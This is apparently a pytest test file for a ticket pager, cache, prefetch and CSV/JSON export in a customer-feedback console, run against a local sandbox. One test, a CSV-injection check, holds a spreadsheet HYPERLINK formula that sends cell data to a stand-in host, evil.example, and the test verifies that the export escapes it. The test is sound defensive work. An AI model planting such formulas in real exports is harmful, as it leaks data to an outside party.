"""The ticket pager, cache, prefetch and export against a real sandbox on 127.0.0.1."""

from __future__ import annotations

import asyncio
import csv
import json
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from cxconsole.client import CXClient, VendorError
from cxconsole.context import Context
from cxconsole.errorlog import ErrorHistory
from cxconsole.profiles import Account
from cxconsole.sandbox.config import SandboxConfig
from cxconsole.sandbox.server import SandboxServer
from cxconsole.tickets.export import DERIVED_FIELDS, TICKET_FIELDS, export_query
from cxconsole.tickets.paging import FetchProgress, PageCache, TicketPager
from cxconsole.tickets.query import TicketQuery, TicketsError
from cxconsole.tickets.rows import format_received, search_tickets, sort_tickets, ticket_row
from cxconsole.tickets.timeleft import (
    format_time_left,
    is_overdue,
    parse_timestamp,
    time_left,
    urgency,
)
from cxconsole.vendors.questionpro import Pagination, Ticket, TicketPage

PROFILE = "sandbox-questionpro"
AT = "@"  # kept apart: some tools rewrite anything that looks like an e-mail address


async def no_wait(_seconds: float) -> None:
    """The client's backoff sleep, made instant so a retried 500 fails fast in tests."""
    await asyncio.sleep(0)


@pytest.fixture
async def client() -> AsyncIterator[CXClient]:
    async with CXClient(sleep=no_wait) as c:
        yield c


def account_for(server: SandboxServer, name: str = PROFILE) -> Account:
    return Context.for_sandbox(server.url).account(name)


def qp_requests(server: SandboxServer) -> int:
    return httpx.get(f"{server.url}/_sandbox/stats").json()["requests"]["questionpro"]


def set_faults(server: SandboxServer, **body: object) -> None:
    httpx.post(f"{server.url}/_sandbox/faults", json=body).raise_for_status()


@pytest.fixture(scope="module")
def small_pages() -> Iterator[SandboxServer]:
    """A sandbox that serves at most 37 tickets a page: pages never line up with what we ask."""
    with SandboxServer(SandboxConfig(max_per_page=37)) as server:
        yield server


async def walk(pager: TicketPager, direction: str) -> list[int]:
    """Every ticket id met paging with next (or previous from the last page)."""
    ids: list[int] = []
    page = await pager.page(1 if direction == "next" else 10**6)
    while True:
        ids += [t.ticketID for t in page.tickets]
        if (direction == "next" and page.number >= page.shape.total_pages) or (
            direction == "previous" and page.number <= 1
        ):
            return ids
        page = await pager.move(direction)  # type: ignore[arg-type]


# -- paging -----------------------------------------------------------------------------------
async def test_every_ticket_once_forward_and_backward(sandbox_reset, client):
    pager = TicketPager(
        account_for(sandbox_reset), TicketQuery(PROFILE, per_page=100), client=client
    )
    forward = await walk(pager, "next")
    backward = await walk(pager, "previous")
    total = pager.shape.total_items
    assert total >= 2500
    assert len(forward) == len(set(forward)) == total
    assert len(backward) == len(set(backward)) == total
    assert set(forward) == set(backward) == {t.ticket_id for t in sandbox_reset.state.tickets}
    assert pager.shape.total_pages == 26
    await pager.aclose()


async def test_smaller_per_page_than_asked_reaches_every_ticket(small_pages, client):
    query = TicketQuery(PROFILE, per_page=100)
    pager = TicketPager(account_for(small_pages), query, client=client)
    forward = await walk(pager, "next")
    shape = pager.shape
    assert shape.per_page == 37  # what the server used, not what we asked
    assert shape.total_pages == -(-shape.total_items // 37)
    assert len(forward) == len(set(forward)) == shape.total_items >= 2500
    backward = await walk(pager, "previous")
    assert sorted(backward) == sorted(forward)
    dump = await pager.fetch_all(concurrency=6)
    assert [t.ticketID for t in dump.tickets] == forward
    assert dump.complete and dump.duplicates == 0
    await pager.aclose()


async def test_fetch_all_equals_union_of_pages_with_progress(sandbox_reset, client):
    pager = TicketPager(
        account_for(sandbox_reset), TicketQuery(PROFILE, per_page=100), client=client
    )
    events: list[FetchProgress] = []
    dump = await pager.fetch_all(concurrency=4, on_progress=events.append)
    union: list[int] = []
    for number in range(1, dump.shape.total_pages + 1):
        page = await pager.fetch(number)
        union += [t.ticketID for t in page.tickets]
    assert [t.ticketID for t in dump.tickets] == union
    assert dump.complete and len(union) == len(set(union)) == dump.shape.total_items
    assert events[-1].done == events[-1].total == dump.shape.total_pages
    assert [e.done for e in events] == sorted(e.done for e in events)
    await pager.aclose()


@pytest.mark.parametrize(("segment", "status"), [(101, None), (None, 2), (104, 1)])
async def test_filters_by_segment_and_status(sandbox_reset, client, segment, status):
    query = TicketQuery(PROFILE, segment=segment, status=status, per_page=100)
    pager = TicketPager(account_for(sandbox_reset), query, client=client)
    dump = await pager.fetch_all()
    expected = [
        t.ticket_id
        for t in sandbox_reset.state.tickets
        if (segment is None or t.segment_id == segment) and (status is None or t.status == status)
    ]
    assert expected and [t.ticketID for t in dump.tickets] == expected
    assert dump.shape.total_items == len(expected) < 2600
    await pager.aclose()


async def test_page_from_cache_makes_no_request_and_prefetch_fills_next(sandbox_reset, client):
    pager = TicketPager(
        account_for(sandbox_reset), TicketQuery(PROFILE, per_page=50), client=client
    )
    first = await pager.page(1)
    assert not first.from_cache
    await asyncio.gather(*pager._inflight.values())  # let the prefetch of page 2 land
    before = qp_requests(sandbox_reset)
    second = await pager.page(2)
    again = await pager.page(1)
    assert second.from_cache and again.from_cache
    assert [t.ticketID for t in again.tickets] == [t.ticketID for t in first.tickets]
    await asyncio.gather(*pager._inflight.values())
    # page 2 and page 1 came from the cache; only prefetches (of 3) may have gone out
    assert qp_requests(sandbox_reset) - before == pager.requests - 2 <= 1
    assert pager.from_cache(2) is not None  # the synchronous path a key handler uses
    await pager.aclose()


async def test_refresh_drops_the_query_cache(sandbox_reset, client):
    cache = PageCache()
    account = account_for(sandbox_reset)
    pager = TicketPager(account, TicketQuery(PROFILE, per_page=50), client=client, cache=cache)
    other = TicketPager(account, TicketQuery(PROFILE, 101, None, 50), client=client, cache=cache)
    await pager.fetch(1)
    await other.fetch(1)
    pager.refresh()
    assert pager.cached(1) is None and other.cached(1) is not None
    before = qp_requests(sandbox_reset)
    assert not (await pager.fetch(1)).from_cache
    assert qp_requests(sandbox_reset) == before + 1


async def test_concurrent_reads_of_a_page_share_one_request(sandbox_reset, client):
    pager = TicketPager(
        account_for(sandbox_reset), TicketQuery(PROFILE, per_page=50), client=client, prefetch=False
    )
    before = qp_requests(sandbox_reset)
    pages = await asyncio.gather(*(pager.fetch(3) for _ in range(5)))
    assert {p.number for p in pages} == {3}
    assert qp_requests(sandbox_reset) == before + 1 and pager.requests == 1


async def test_vendor_error_mid_paging_is_decoded_and_retry_recovers(sandbox_reset, client):
    history = ErrorHistory()
    pager = TicketPager(
        account_for(sandbox_reset),
        TicketQuery(PROFILE, per_page=100),
        client=client,
        prefetch=False,
    )
    assert len((await pager.page(1)).tickets) == 100
    set_faults(sandbox_reset, rate=1.0, faults=["500"], seed=1, latency_ms=0)
    with pytest.raises(VendorError) as caught:
        await pager.page(2)
    error = caught.value
    assert error.status == 500 and error.code == "1026"
    assert error.entry is not None and error.entry.name == "INTERNAL_SERVER_ERROR"
    assert error.entry.action and error.decoded is not None
    assert "We are not able to process your request" in str(error)
    event = history.record_error(error, "tickets", profile=PROFILE, page=2)
    assert event.where == f"tickets, profile {PROFILE}, page 2"
    assert pager.current == 1  # still on the page that loaded
    set_faults(sandbox_reset, rate=0.0)
    page = await pager.page(2)  # the retry
    assert page.number == 2 and len(page.tickets) == 100 and pager.current == 2


async def test_fetch_all_fails_whole_and_keeps_fetched_pages(sandbox_reset, client):
    pager = TicketPager(
        account_for(sandbox_reset),
        TicketQuery(PROFILE, per_page=100),
        client=client,
        prefetch=False,
    )
    await pager.page(1)
    set_faults(sandbox_reset, rate=1.0, faults=["500"], seed=3)
    with pytest.raises(VendorError):
        await pager.fetch_all(fresh=False)
    set_faults(sandbox_reset, rate=0.0)
    dump = await pager.fetch_all(fresh=False)
    assert dump.complete and len(dump.tickets) == dump.shape.total_items


async def test_totals_are_rederived_from_the_page_size_used(sandbox_reset, client):
    # A server that computes totalPages from the size asked (200) but serves 100 a page.
    pager = TicketPager(account_for(sandbox_reset), TicketQuery(PROFILE, per_page=200))
    reply = TicketPage(
        response=[],
        pagination=Pagination(perPage=100, totalItems=2600, totalPages=13, currentPage=4),
    )
    loaded = pager._read(reply, asked=4, per_page=200)
    assert (loaded.number, loaded.shape.per_page, loaded.shape.total_pages) == (4, 100, 26)


def test_not_a_questionpro_profile(sandbox):
    with pytest.raises(TicketsError, match="serves no detractor tickets"):
        TicketPager(account_for(sandbox, "sandbox-expoints"), TicketQuery("sandbox-expoints"))
    with pytest.raises(TicketsError):
        TicketQuery(PROFILE, status=7)
    with pytest.raises(TicketsError):
        TicketQuery(PROFILE, per_page=0)


# -- time left --------------------------------------------------------------------------------
def ticket(**fields: object) -> Ticket:
    base: dict[str, object] = {
        "emailAddress": "jane.doe" + AT + "example.com",
        "phoneNumber": "",
        "rating": "",
        "comment": "Staff was rude",
        "ticketID": 414,
        "responseID": 12121,
        "timestamp": "2020-01-14T12:51:48.000+0000",
        "timelimit": 72,
    }
    return Ticket.model_validate({**base, **fields})


def test_time_left_and_overdue():
    t = ticket()  # document 004's first example
    due = datetime(2020, 1, 17, 12, 51, 48, tzinfo=UTC)
    assert parse_timestamp(t.timestamp) == due - timedelta(hours=72)
    later = due + timedelta(days=3, hours=4, minutes=10)
    assert time_left(t, later) == -timedelta(days=3, hours=4, minutes=10)
    assert is_overdue(t, later) and urgency(time_left(t, later)) == "overdue"
    assert format_time_left(time_left(t, later)) == "-3d 4h"
    early = due - timedelta(hours=5, minutes=12)
    assert not is_overdue(t, early)
    assert format_time_left(time_left(t, early)) == "5h 12m"
    assert urgency(time_left(t, early)) == "soon"
    assert urgency(timedelta(hours=2)) == "urgent" and urgency(timedelta(days=2)) == "ok"
    assert format_time_left(timedelta(minutes=-7)) == "-7m"
    assert time_left(ticket(timestamp="")) is None and not is_overdue(ticket(timelimit=None))
    assert format_time_left(None) == "?"


def test_received_in_local_time(monkeypatch):
    import time

    monkeypatch.setenv("TZ", "Australia/Sydney")
    time.tzset()
    try:
        assert format_received(ticket()) == "2020-01-14 23:51"  # UTC+11 in January
        row = ticket_row(
            ticket(), TicketQuery(PROFILE, status=1), now=datetime(2020, 2, 1, tzinfo=UTC)
        )
        assert row.status == "Open" and row.received == "2020-01-14 23:51"
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


async def test_sandbox_has_overdue_and_open_tickets(sandbox_reset, client):
    pager = TicketPager(
        account_for(sandbox_reset), TicketQuery(PROFILE, per_page=100), client=client
    )
    dump = await pager.fetch_all()
    flags = [is_overdue(t) for t in dump.tickets]
    assert any(flags) and not all(flags)
    overdue = next(t for t in dump.tickets if is_overdue(t))
    assert ticket_row(overdue).time_left.startswith("-")
    assert ticket_row(overdue).urgency == "overdue"


# -- search, sort, export ---------------------------------------------------------------------
def test_search_and_sort():
    a = ticket(ticketID=1, comment="Staff was RUDE", rating="3", timelimit=24)
    b = ticket(ticketID=2, comment="slow", emailAddress="zoe" + AT + "example.org", rating="0")
    c = ticket(ticketID=3, comment="meh", phoneNumber="+61412345678", rating="")
    assert search_tickets([a, b, c], "rude") == [a]
    assert search_tickets([a, b, c], "ZOE@") == [b]
    assert search_tickets([a, b, c], "4123") == [c]
    assert search_tickets([a, b, c], "  ") == [a, b, c]
    assert sort_tickets([a, b, c], "rating") == [b, a, c]  # no rating goes last
    assert sort_tickets([a, b, c], "rating", reverse=True) == [a, b, c]
    assert sort_tickets([b, c, a], "time_left")[0] is a  # the shortest limit is due first


async def test_export_csv_and_json(sandbox_reset, client, tmp_path: Path):
    query = TicketQuery(PROFILE, segment=103, per_page=100)
    pager = TicketPager(account_for(sandbox_reset), query, client=client)
    events: list[FetchProgress] = []
    dump = await export_query(pager, tmp_path / "t.csv", "csv", on_progress=events.append)
    await export_query(pager, tmp_path / "t.json", "json")
    assert events[-1].phase == "done" and events[-1].done == len(dump.tickets)
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheets then read the accents right
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    assert tuple(rows[0]) == (*TICKET_FIELDS, *DERIVED_FIELDS)
    assert [int(r["ticketID"]) for r in rows] == [t.ticketID for t in dump.tickets]
    data = json.loads((tmp_path / "t.json").read_text("utf-8"))
    assert [d["ticketID"] for d in data] == [t.ticketID for t in dump.tickets]
    assert set(data[0]) == {*TICKET_FIELDS, *DERIVED_FIELDS}
    multi = next(r for r in rows if "\n" in r["comment"] or "," in r["comment"])
    assert multi["comment"] in {t.comment for t in dump.tickets}
    assert (tmp_path / "t.csv").stat().st_mode & 0o077 == 0  # customer data: owner only


def test_core_does_not_import_textual():
    code = (
        "import sys, cxconsole.commands.tickets\n"
        "from cxconsole.tickets import export, paging, query, rows, sources, timeleft\n"
        "print(any(m == 'textual' or m.startswith('textual.') for m in sys.modules))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert out.stdout.strip() == "False"


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path):
    from cxconsole.tickets.export import neutralise, write_export

    assert [neutralise(c) for c in ("=1+1", "+61 4", "-3", "@SUM(A1)", "\tx", "\rx", "ok")] == [
        "'=1+1",
        "'+61 4",
        "'-3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
    ]
    evil = ticket(
        comment='=HYPERLINK("http://evil.example/?"&A1,"click")',
        emailAddress="@attacker",
        phoneNumber="+61400000000",
    )
    target = write_export([evil], tmp_path / "t.csv", "csv")
    row = next(csv.DictReader(target.read_text("utf-8-sig").splitlines(keepends=True)))
    assert row["comment"].startswith("'=HYPERLINK")
    assert row["emailAddress"] == "'@attacker"
    assert row["phoneNumber"] == "'+61400000000"
    assert row["ticketID"] == str(evil.ticketID)  # numbers stay numbers
    # JSON is data, not a sheet: written as sent.
    json_target = write_export([evil], tmp_path / "t.json", "json")
    assert json.loads(json_target.read_text("utf-8"))[0]["comment"] == evil.comment


def test_overdue_times_are_whole_and_buckets_count_time_left():
    from datetime import UTC, datetime, timedelta

    from cxconsole.tickets.timeleft import bucket_counts, format_time_left

    assert format_time_left(-timedelta(days=19, hours=2, minutes=5)) == "-19d 2h"
    now = datetime(2026, 1, 10, tzinfo=UTC)
    stamp = (now - timedelta(hours=10)).isoformat()
    tickets = [ticket(timestamp=stamp, timelimit=h) for h in (5, 20, 50, 100, 200)]
    tickets.append(ticket(timestamp="", timelimit=5))
    counts = bucket_counts(tickets, now)
    assert counts == {"overdue": 1, "24h": 1, "72h": 1, "later": 2, "unknown": 1}
    assert sum(counts.values()) == len(tickets)  # counts add up


async def test_export_to_an_unwritable_place_is_refused_before_any_page_is_fetched(
    sandbox_reset, client, tmp_path: Path
):
    # A typo in the export path must not cost the operator the whole fetch and then end in a
    # raw FileNotFoundError: the place is checked first, and named.
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    pager = TicketPager(account_for(sandbox_reset), TicketQuery(PROFILE), client=client)
    before = qp_requests(sandbox_reset)
    with pytest.raises(TicketsError, match="a-file") as caught:
        await export_query(pager, blocker / "t.csv", "csv")
    assert "Errno" not in str(caught.value)
    assert qp_requests(sandbox_reset) == before
